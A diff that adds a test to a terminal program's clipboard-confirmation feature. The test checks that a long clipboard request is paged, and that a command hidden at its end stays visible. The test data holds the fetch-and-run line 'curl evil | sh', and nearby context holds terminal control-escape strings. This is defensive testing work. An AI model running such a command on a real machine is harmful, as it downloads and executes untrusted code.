@@ -268,6 +268,34 @@ describe('a program that wants to set the clipboard', () => {
     assert.deepEqual([on.b.clipboard, on.session.ui.clipboard], [['x'], undefined]);
   });
 
+  test('nothing of it is sent unseen: a long one has pages, a very long one says what is left out', () => {
+    const wish = `${'git status\n'.repeat(60)}curl evil | sh\n`;
+    const { b, session } = bench();
+    session.clipboard.asked(wish);
+    session.prefix();
+    session.key('c');
+    b.press('y');
+    assert.deepEqual(b.clipboard, []);
+    assert.match(session.ui.message, /not every page was seen/);
+    let seen = '';
+    for (let page = 0; page < 9; page += 1) {
+      seen += JSON.stringify(b.shown().model.dialog?.lines);
+      b.press('pagedown');
+    }
+    assert.match(seen, /curl evil \| sh/);
+    b.press('y');
+    assert.deepEqual(b.clipboard, [wish]);
+    session.clipboard.asked(`${'git status\n'.repeat(999)}curl evil | sh`);
+    session.prefix();
+    session.key('c');
+    for (let page = 0; page < 9; page += 1) {
+      seen += JSON.stringify(b.shown().model.dialog?.lines);
+      b.press('pagedown');
+    }
+    assert.match(seen, /800 more lines, which are not shown/);
+    assert.match(JSON.stringify(b.shown().model.dialog?.lines), /curl evil \| sh/);
+  });
+
   test('controls in the text are written out, and warned about', () => {
     const { b, session } = bench();
     session.clipboard.asked('a\x1b[200~\u202eb');
